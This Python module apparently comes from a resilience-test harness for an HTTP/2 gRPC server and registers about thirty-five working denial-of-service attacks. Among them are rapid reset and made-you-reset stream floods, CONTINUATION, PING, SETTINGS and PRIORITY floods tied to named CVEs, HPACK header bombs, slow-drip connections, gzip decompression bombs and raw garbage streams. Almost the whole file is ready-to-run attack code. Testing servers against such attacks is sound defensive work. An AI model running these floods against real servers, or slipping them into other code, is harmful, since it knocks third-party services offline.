"""The attacks by name: what each writes, and whether it reads what the server says."""

import asyncio
import functools
import gzip
import os
import struct
from dataclasses import dataclass
from typing import Awaitable, Callable

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SUM = "/huddle.bench.v1.Bench/Sum"
BULK = "/huddle.bench.v1.Bench/Bulk"


@dataclass
class Attack:
    run: Callable[..., Awaitable[None]]
    hears: bool = True
    # Bytes on a bare socket, also where the server wants TLS.
    is_raw: bool = False
    ends_with_reset: bool = False


ALL: dict[str, Attack] = {}


def attack(name, **options):
    def register(run):
        ALL[name] = Attack(run, **options)
        return run

    return register


def greeting(**settings):
    numbers = {getattr(SettingsFrame, key): value for key, value in settings.items()}
    return PREFACE + SettingsFrame(0, settings=numbers).serialize() + SettingsFrame(0, flags=["ACK"]).serialize()


@functools.cache
def block(path=SUM, further=()):
    fields = [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "h"),
        ("te", "trailers"), ("content-type", "application/grpc"), *further,
    ]
    encoder = Encoder()
    encoder.header_table_size = 0
    return encoder.encode(fields)


def headers(stream, data=None, flags=("END_HEADERS",)):
    return HeadersFrame(stream, block() if data is None else data, flags=list(flags)).serialize()


def data(stream, payload, flags=()):
    return DataFrame(stream, payload, flags=list(flags)).serialize()


def message(payload, flag=0):
    return struct.pack(">BI", flag, len(payload)) + payload


def bulk(count, size):
    def varint(value):
        out = b""
        while value >= 128:
            out += bytes([value & 127 | 128])
            value >>= 7
        return out + bytes([value])

    return message(b"\x08" + varint(count) + b"\x10" + varint(size))


async def repeat(connection, chunk):
    while not connection.is_over:
        await connection.send(chunk)


def flood(name, make, opening=b"", settings={}, **options):
    """Registers one that says the same again and again."""
    chunk = make * max(1, 16_384 // len(make))

    @attack(name, **options)
    async def run(connection):
        await connection.send(greeting(**settings) + opening)
        await repeat(connection, chunk)


def streams(name, make, batch=64, opening=b"", settings={}, **options):
    """Registers one that takes a new stream each time."""

    @attack(name, **options)
    async def run(connection):
        await connection.send(greeting(**settings) + opening)
        stream = 1
        while not connection.is_over and stream < 2**31 - 2 * batch:
            await connection.send(b"".join(make(number) for number in range(stream, stream + 2 * batch, 2)))
            stream += 2 * batch


OPEN = headers(1)

# CVE-2023-44487
streams("rapid-reset", lambda stream: headers(stream) + RstStreamFrame(stream, error_code=8).serialize())
# CVE-2025-8671: the server resets, because the window becomes too large ...
streams(
    "made-you-reset",
    lambda stream: headers(stream) + WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize(), batch=8)
# ... or because the message is none, which is gRPC's affair and no error of HTTP/2.
streams("made-you-cut", lambda stream: headers(stream) + data(stream, b"\x07\0\0\0\0"), batch=8)
# CVE-2024-28182, and in frames without a byte.
flood("continuation", ContinuationFrame(1, b"\x00\x01a\x01b").serialize(), opening=headers(1, flags=()))
flood("empty-continuation", ContinuationFrame(1, b"").serialize(), opening=headers(1, flags=()))
# CVE-2019-9512 and -9515, from one that reads the answers and one that does not.
PING = PingFrame(0, opaque_data=b"attacked").serialize()
SETTINGS = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
flood("ping", PING)
flood("ping-unread", PING, hears=False)
flood("settings", SETTINGS)
flood("settings-unread", SETTINGS, hears=False)
# CVE-2019-9518
flood("empty-data", data(1, b""), opening=OPEN)
flood("padded-data", DataFrame(1, b"", pad_length=255, flags=["PADDED"]).serialize(), opening=OPEN)
flood("byte-data", data(1, b"\0"), opening=OPEN)
# CVE-2019-9513
flood("priority", PriorityFrame(1, depends_on=0, stream_weight=16).serialize(), opening=OPEN)
# CVE-2019-9511 and -9517: windows by the byte, with nothing to send and with much.
flood("window", WindowUpdateFrame(0, window_increment=1).serialize())
flood(
    "dribble", WindowUpdateFrame(1, window_increment=1).serialize(),
    opening=headers(1, block(BULK)) + data(1, bulk(1_000_000, 65_536), ["END_STREAM"]),
    settings={"INITIAL_WINDOW_SIZE": 0})
# Frames of a type that nobody knows, and such as mean nothing to a server.
flood("unknown", b"\0\0\0\x4a\0\0\0\0\0")
flood("unknown-large", b"\0\x40\0\x4a\0\0\0\0\0" + bytes(16_384))
flood("goaway", GoAwayFrame(0, last_stream_id=0, error_code=0).serialize())


@functools.cache
def bomb_fields():
    """One field of 4,000 octets into the table, and then by its number as often as a frame holds."""
    encoder = Encoder()
    fields = [
        (":method", "POST"), (":scheme", "http"), (":path", SUM), (":authority", "h"), ("x-bomb", "b" * 3_900),
    ]
    fill = encoder.encode(fields)
    # 62 is the last that went into the table.
    return fill + b"\xbe" * (16_384 - len(fill))


# One octet each names a field of 4 KB.
streams("header-bomb", lambda stream: headers(stream, bomb_fields()), batch=1)
# Lists that are too long, though no bombs: each is answered, by RESOURCE_EXHAUSTED.
LONG = tuple((f"x-{n}", "v" * 1_500) for n in range(11))
streams("long-headers", lambda stream: headers(stream, block(further=LONG)), batch=1)


# One octet every so often, up to all of `whole`.
async def drip(connection, whole, every=0.05):
    for octet in whole:
        await connection.send(bytes([octet]))
        await asyncio.sleep(every)


@attack("slow-preface")
async def slow_preface(connection):
    await drip(connection, greeting(), 0.5)


@attack("slow-headers")
async def slow_headers(connection):
    await connection.send(greeting())
    await drip(connection, headers(1, block(further=(("x", "y" * 10_000),))))


@attack("slow-body", ends_with_reset=True)
async def slow_body(connection):
    await connection.send(greeting() + headers(1) + data(1, message(bytes(4_000))[:100]))
    while not connection.is_over:
        await connection.send(data(1, b"\0"))
        await asyncio.sleep(0.2)


@attack("slow-reader", ends_with_reset=True)
async def slow_reader(connection):
    """Asks for much on some streams and opens no window; its connection is alive and well."""
    await connection.send(greeting(INITIAL_WINDOW_SIZE=0))
    for stream in range(1, 9, 2):
        request = headers(stream, block(BULK)) + data(stream, bulk(1_000, 16_384), ["END_STREAM"])
        await connection.send(request)
    while not connection.is_over:
        await connection.send(PING)
        await asyncio.sleep(0.2)


@attack("deaf", hears=False)
async def deaf(connection):
    """Opens every window and reads nothing from its socket."""
    await connection.send(
        greeting(INITIAL_WINDOW_SIZE=2**31 - 1)
        + WindowUpdateFrame(0, window_increment=2**31 - 1 - 65_535).serialize())
    await connection.send(headers(1, block(BULK)) + data(1, bulk(1_000_000, 16_384), ["END_STREAM"]))
    while not connection.is_over:
        await connection.send(PING)
        await asyncio.sleep(0.2)


@attack("gzip", ends_with_reset=True)
async def gzip_bombs(connection):
    """Fills a window with messages of 4 MiB each once inflated, for a handler that has stopped to read."""
    await connection.send(greeting(INITIAL_WINDOW_SIZE=0))
    request = block(BULK, (("grpc-encoding", "gzip"),))
    await connection.send(headers(1, request) + data(1, bulk(1_000, 65_536)))
    bomb = message(gzip.compress(bytes(4 << 20)), flag=1)
    for _ in range(262_144 // len(bomb) - 1):
        await connection.send(data(1, bomb))
    while not connection.is_over:
        await connection.send(PING)
        await asyncio.sleep(0.2)


@attack("half-open", is_raw=True)
async def half_open(connection):
    await asyncio.sleep(3_600)


@attack("slow-hello", is_raw=True)
async def slow_hello(connection):
    """The first octets of a handshake, which the server expects more of."""
    await drip(connection, b"\x16\x03\x01\x10\x00\x01\x00\x0f\xfc\x03\x03" + os.urandom(4_000), 0.1)


@attack("silent")
async def silent(connection):
    """Past the handshake, if there is one, and then nothing."""
    await asyncio.sleep(3_600)


@attack("garbage", is_raw=True)
async def garbage(connection):
    await repeat(connection, os.urandom(16_384))


@attack("inner-garbage")
async def inner_garbage(connection):
    await repeat(connection, os.urandom(16_384))
